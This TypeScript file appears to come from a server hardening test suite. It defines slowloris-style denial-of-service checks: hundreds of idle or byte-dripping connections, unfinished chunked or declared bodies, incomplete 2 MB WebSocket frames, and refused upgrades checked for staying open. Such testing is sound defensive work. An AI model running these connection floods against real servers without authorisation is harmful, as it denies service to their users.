import type { Socket } from "node:net";
import type { Attack } from "../attack.ts";
import type { Attacker } from "../attacker/attacker.ts";
import { frame, OPCODE, upgradeHead } from "../attacker/frames.ts";
import { type Place, placeOf } from "../target.ts";

const CONNECTIONS = 300;
/** Milliseconds for which bytes drip. Such attacks hurt by their number, at once or not at all. */
const DRIPPING = 1_000;
/** Milliseconds after which a refused connection should be closed. */
const GRACE = 3_000;

/** An attack by connections that send a beginning, and then a byte now and then. */
function drip(
  number: string,
  title: string,
  first: (place: Place) => string | Uint8Array,
  next: string | Uint8Array | undefined,
): Attack {
  return {
    id: `ATK-F${number}`,
    title,
    over: "sockets",
    async run(attacker) {
      const sockets = await attacker.openSockets(CONNECTIONS);
      for (const socket of sockets) socket.write(first(attacker.place));
      await dripInto(attacker, sockets, next);
      return undefined;
    },
  };
}

async function dripInto(
  attacker: Attacker,
  sockets: readonly Socket[],
  bytes: string | Uint8Array | undefined,
): Promise<void> {
  const end = performance.now() + DRIPPING;
  while (performance.now() < end && sockets.some(({ destroyed }) => !destroyed)) {
    await attacker.wait(100);
    if (attacker.signal.aborted) return;
    for (const socket of sockets) {
      if (bytes !== undefined && socket.writable) socket.write(bytes);
    }
  }
}

const isOpen = ({ destroyed }: Socket) => !destroyed;

/** An attack that checks whether a refusal leaves the connection open. */
function refused(number: string, title: string, head: (place: Place) => string): Attack {
  return {
    id: `ATK-F${number}`,
    title,
    over: "sockets",
    needs: ["websocket"],
    async run(attacker) {
      const sockets = await attacker.openSockets(CONNECTIONS);
      let refusals = 0;
      for (const socket of sockets) {
        // Keeps the attacker's end open when the server ends its own.
        socket.allowHalfOpen = true;
        socket.once("data", (data) => {
          if (/^HTTP\/1\.1 [45]/.test(String(data))) refusals++;
        });
        socket.write(`${head(attacker.place)}\r\n`);
      }
      await Promise.race([attacker.untilClosed(sockets), attacker.wait(700)]);
      if (attacker.signal.aborted || refusals === 0) return undefined;
      // A half-closed connection shows only when it is written to. Servers give a client a while to
      // read the refusal.
      for (let waited = 0; waited < GRACE && sockets.some(isOpen); waited += 300) {
        for (const socket of sockets) if (isOpen(socket)) socket.write("x");
        await attacker.wait(300);
        if (attacker.signal.aborted) return undefined;
      }
      const open = sockets.filter(isOpen).length;
      return open > CONNECTIONS / 10
        ? `${open} of ${sockets.length} refused connections stay open`
        : undefined;
    },
  };
}

/** Attacks by connections that do nothing, or almost nothing. */
export const SLOW: readonly Attack[] = [
  refused("01", "Upgrades to a path that isn't there are refused and stay open.", (place) =>
    upgradeHead({ ...place, path: "/no-such-path-of-the-attack-suite" }),
  ),
  refused("02", "Upgrades from another site are refused and stay open.", (place) =>
    upgradeHead(place, ["Origin: http://evil.example", "Sec-Fetch-Site: cross-site"]),
  ),
  drip("03", "300 connections never send anything.", () => "", undefined),
  drip(
    "04",
    "300 upgrade requests get a header now and then, and no end.",
    (place) => upgradeHead(place),
    "X-Slow: x\r\n",
  ),
  {
    id: "ATK-F05",
    title: "300 batches get a byte of their body now and then, and no end.",
    over: "sockets",
    needs: ["http"],
    async run(attacker) {
      const { path, authority } = placeOf(attacker.target.http!);
      const chunked = "Transfer-Encoding: chunked";
      const head = `POST ${path} HTTP/1.1\r\nHost: ${authority}\r\n${chunked}\r\n\r\n`;
      const sockets = await attacker.openSockets(CONNECTIONS);
      for (const socket of sockets) socket.write(head);
      await dripInto(attacker, sockets, "1\r\n[\r\n");
      return undefined;
    },
  },
  {
    id: "ATK-F06",
    title: "300 batches announce a body of which nothing comes.",
    over: "sockets",
    needs: ["http"],
    async run(attacker) {
      const { path, authority } = placeOf(attacker.target.http!);
      const head = `POST ${path} HTTP/1.1\r\nHost: ${authority}\r\nContent-Length: 1000\r\n\r\n`;
      const sockets = await attacker.openSockets(CONNECTIONS);
      for (const socket of sockets) socket.write(head);
      await dripInto(attacker, sockets, undefined);
      return undefined;
    },
  },
  {
    id: "ATK-F07",
    title: "150 messages of 2 MB lack their last byte.",
    over: "sockets",
    needs: ["websocket"],
    async run(attacker) {
      const bytes = frame(OPCODE.text, new Uint8Array(2_000_000).fill(32), { length: 2_000_001 });
      const opened = await Promise.all(Array.from({ length: 150 }, () => attacker.openWebSocket()));
      const sockets = opened.filter((socket) => socket !== undefined);
      const pour = (socket: Socket) => {
        const list = [bytes];
        return attacker.pour(socket, () => list.pop());
      };
      await Promise.all(sockets.map(pour));
      await Promise.race([attacker.untilClosed(sockets), attacker.wait(500)]);
      return undefined;
    },
  },
  {
    id: "ATK-F08",
    title: "300 WebSockets are closed by the server, which waits for an answer in vain.",
    over: "sockets",
    needs: ["websocket"],
    async run(attacker) {
      for (let i = 0; i < 6 && !attacker.signal.aborted; i++) {
        const some = await Promise.all(Array.from({ length: 50 }, () => attacker.openWebSocket()));
        for (const socket of some) socket?.write(frame(OPCODE.text, Buffer.from("nonsense")));
      }
      await attacker.wait(500);
      return undefined;
    },
  },
  {
    id: "ATK-F09",
    title: "300 upgrades are sent by clients that end their side at once.",
    over: "sockets",
    needs: ["websocket"],
    async run(attacker) {
      const sockets = await attacker.openSockets(CONNECTIONS);
      for (const socket of sockets) {
        socket.allowHalfOpen = true;
        socket.end(`${upgradeHead(attacker.place)}\r\n`);
      }
      await Promise.race([attacker.untilClosed(sockets), attacker.wait(1_500)]);
      return undefined;
    },
  },
];
